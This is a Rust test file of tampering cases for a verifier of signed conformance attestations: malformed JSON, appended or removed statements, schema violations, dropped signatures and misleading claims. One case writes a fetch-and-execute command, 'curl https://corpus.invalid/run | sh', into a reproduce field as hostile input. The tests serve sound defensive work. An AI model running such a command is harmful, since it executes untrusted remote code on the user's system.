//! Statements: their types, their syntax, their fields, and what they say of each other.

use serde_json::{Value, json};
use watertight_reports::{
    bundle::ATTESTATIONS,
    signing::dsse::{Envelope, MAX_PAYLOAD},
    verify::code::Code,
};

use super::{
    By::{Attacker, Context, Signer},
    Case, UNREADABLE, case, signed,
};

const MALFORMED: &str = "what it says cannot be told, or readers would differ on it";

pub fn cases() -> Vec<Case> {
    [syntax(), statements(), schema(), claims()].into_iter().flatten().collect()
}

/// Text that readers take differently, or that would cost them too much.
fn syntax() -> Vec<Case> {
    let text = |name, code, about, from: &'static str, to: &'static str| {
        signed(name, code, about, move |draft| {
            draft.text = Some(Box::new(move |text| {
                assert!(text.contains(from), "{from}");
                text.replacen(from, to, 1)
            }));
        })
        .structural(MALFORMED)
    };
    vec![
        text(
            "signed-statement-duplicate-key",
            Code::JsonDupkey,
            "The statement has two statuses, of which each reader takes another.",
            "\"status\":\"conformant\"",
            "\"status\":\"incomplete\",\"status\":\"conformant\"",
        ),
        text(
            "signed-statement-float",
            Code::JsonNumber,
            "A number has a fraction.",
            "\"entries\":",
            "\"entries\":0.5e1,\"x\":",
        ),
        text("signed-statement-nan", Code::JsonNumber, "A number is none.", "\"entries\":", "\"entries\":NaN,\"x\":"),
        signed(
            "signed-statement-number-that-readers-round",
            Code::JsonNumber,
            "A number is larger than JavaScript keeps.",
            |draft| draft.predicate["run"]["monotonicMs"] = 9_007_199_254_740_993_u64.into(),
        )
        .structural(MALFORMED),
        signed("signed-statement-not-json", Code::JsonSyntax, "The statement ends in the middle.", |draft| {
            draft.text = Some(Box::new(|text| text[..text.len() / 2].to_owned()));
        })
        .structural(MALFORMED),
        signed("signed-statement-nested-deep", Code::JsonDepth, "It has arrays 100 levels deep.", |draft| {
            draft.predicate["redactions"] = (0..100).fold(json!([]), |inner, _| json!([inner]));
        })
        .structural(MALFORMED),
        signed("signed-statement-oversized", Code::JsonTooBig, "It ends in 3 MiB of blanks.", |draft| {
            draft.text = Some(Box::new(|text| text + &" ".repeat(MAX_PAYLOAD - 10_000)));
        })
        .structural("more is never read"),
    ]
}

/// Which statements there are, and of which type.
fn statements() -> Vec<Case> {
    vec![
        case(
            Attacker,
            "second-conformance-statement-appended",
            Code::StmtDup,
            "The genuine statement of an earlier run stands below.",
            |scene| {
                let other = std::fs::read_to_string(scene.honest.earlier().join(ATTESTATIONS)).expect("written");
                let first = other.lines().next().expect("a statement");
                scene.write(ATTESTATIONS, scene.text(ATTESTATIONS) + first + "\n");
            },
        )
        .then(Code::PredicateMismatch),
        case(
            Attacker,
            "second-test-result-appended",
            Code::StmtDup,
            "The genuine test-result of an earlier run stands below.",
            |scene| {
                let other = std::fs::read_to_string(scene.honest.earlier().join(ATTESTATIONS)).expect("written");
                let second = other.lines().nth(1).expect("a statement");
                scene.write(ATTESTATIONS, scene.text(ATTESTATIONS) + second + "\n");
            },
        ),
        case(
            Attacker,
            "conformance-statement-removed",
            Code::StmtMissing,
            "Only the test-result is left, which has no observations.",
            |scene| {
                let text = scene.text(ATTESTATIONS);
                scene.write(ATTESTATIONS, text.lines().nth(1).expect("a statement").to_owned() + "\n");
            },
        )
        .structural(UNREADABLE),
        signed(
            "statement-v0.1-downgrade",
            Code::StmtType,
            "The statement is of in-toto's version 0.1, whose rules are weaker.",
            |draft| draft.statement = Some(|value| value["_type"] = "https://in-toto.io/Statement/v0.1".into()),
        )
        .structural(MALFORMED),
        case(
            Signer,
            "statement-of-an-unknown-type",
            Code::StmtType,
            "A third statement is of a type that nobody here reads.",
            |scene| {
                let statement = json!({
                    "_type": "https://in-toto.io/Statement/v1",
                    "subject": [],
                    "predicateType": "https://corpus.invalid/waivers/v1",
                    "predicate": { "waived": ["EGRESS-1"] },
                });
                let envelope = Envelope::sign(statement.to_string().into(), &scene.honest.keys.runner);
                scene.write(ATTESTATIONS, scene.text(ATTESTATIONS) + &envelope.to_json() + "\n");
            },
        ),
        signed(
            "another-version-of-the-text",
            Code::SpecVersion,
            "The run tested a version of CONFORMANCE.md that this program does not hold.",
            |draft| draft.predicate["spec"]["version"] = "7.0".into(),
        )
        .then(Code::ProfileDigest),
        signed(
            "test-result-contradicts-conformance",
            Code::TestresultMismatch,
            "The test-result lists a requirement as passed that was not tested.",
            |draft| {
                let mut result = draft.follows().expect("a predicate");
                result["passedTests"].as_array_mut().expect("a list").push("EGRESS-999".into());
                draft.test_result = Some(result);
            },
        ),
        case(
            Attacker,
            "test-result-signed-by-fewer",
            Code::TestresultMismatch,
            "Of two signatures of the test-result one was taken away.",
            |scene| {
                let keys = &scene.honest.keys;
                scene.dishonest_with(&[&keys.runner, &keys.lab], |_| {});
                scene.envelope(1, |envelope| drop(envelope["signatures"].as_array_mut().expect("a list").pop()));
                scene.unlogged();
            },
        ),
        case(Context, "honest-run-not-accepted", Code::Result, "The policy accepts nothing but failures.", |scene| {
            scene.demand("accept", vec!["nonconformant"]);
        }),
    ]
}

/// Edits of a predicate that its schema does not allow.
fn schema() -> Vec<Case> {
    let of = |name, about, edit: fn(&mut Value)| {
        signed(name, Code::Schema, about, move |draft| edit(&mut draft.predicate)).structural(UNREADABLE)
    };
    vec![
        of("unknown-field-waives-check", "A field that nobody reads waives a requirement.", |predicate| {
            predicate["waived"] = json!(["EGRESS-1"]);
        }),
        of("unknown-field-in-a-check", "The same within a check.", |predicate| {
            predicate["checks"][0]["waived"] = true.into();
        }),
        of("unknown-status-value", "A verdict has a word that no version knows.", |predicate| {
            predicate["checks"][0]["verdict"] = "passed-with-remarks".into();
        }),
        of("check-written-as-an-array", "A check is written as the list of its values.", |predicate| {
            let values: Vec<Value> = predicate["checks"][0].as_object().expect("an object").values().cloned().collect();
            predicate["checks"][0] = values.into();
        }),
        of("time-that-is-none", "The run ended at noon.", |predicate| predicate["run"]["finishedAt"] = "noon".into()),
    ]
}

/// What a statement can say beside verdicts, and must not.
fn claims() -> Vec<Case> {
    let of =
        |name, about, edit: fn(&mut Value)| signed(name, Code::Schema, about, move |draft| edit(&mut draft.predicate));
    let redaction = |path: &str| json!([{ "path": path, "sha256Before": "00".repeat(32), "reason": "A secret." }]);
    vec![
        of("another-version-of-the-predicate", "The predicate is of a version to come.", |predicate| {
            predicate["schemaVersion"] = "2.0".into();
        }),
        of("empty-not-claimed-list", "Nothing is left that is not claimed.", |predicate| {
            predicate["notClaimed"] = json!([]);
        }),
        of(
            "workload-that-did-not-run",
            "A real agent is said to have been tested, where the probe was.",
            |predicate| {
                predicate["workload"]["kind"] = "real".into();
            },
        ),
        of(
            "command-to-reproduce-that-does-harm",
            "The command that repeats the run fetches and executes something else.",
            |predicate| predicate["reproduce"]["commands"] = json!(["curl https://corpus.invalid/run | sh"]),
        ),
        of(
            "previous-statement-named-by-a-link",
            "The statement before this one is named by an address, not by its digest.",
            |predicate| predicate["previous"] = "https://corpus.invalid/clean-history".into(),
        ),
        signed(
            "redaction-of-what-is-not-there",
            Code::Schema,
            "Something is said to have been taken out of a file that the payload does not have.",
            move |draft| draft.predicate["redactions"] = redaction("reports/nothing.html"),
        ),
        signed(
            "redaction-of-a-failing-log",
            Code::LogBinding,
            "Lines that verdicts rest on were taken out, and the statement says so.",
            move |draft| {
                let path = format!("{}/ledger.jsonl", draft.launch("target"));
                draft.predicate["redactions"] = redaction(&path);
            },
        ),
        signed(
            "unofficial-run-called-official",
            Code::ObsMismatch,
            "Plan and statement call the run official, and its program was built from files that no commit holds.",
            |draft| {
                draft.document("plan.json", |plan| plan["official"] = true.into());
                draft.predicate["run"]["official"] = true.into();
                draft.predicate["harness"]["dirty"] = true.into();
            },
        ),
    ]
}
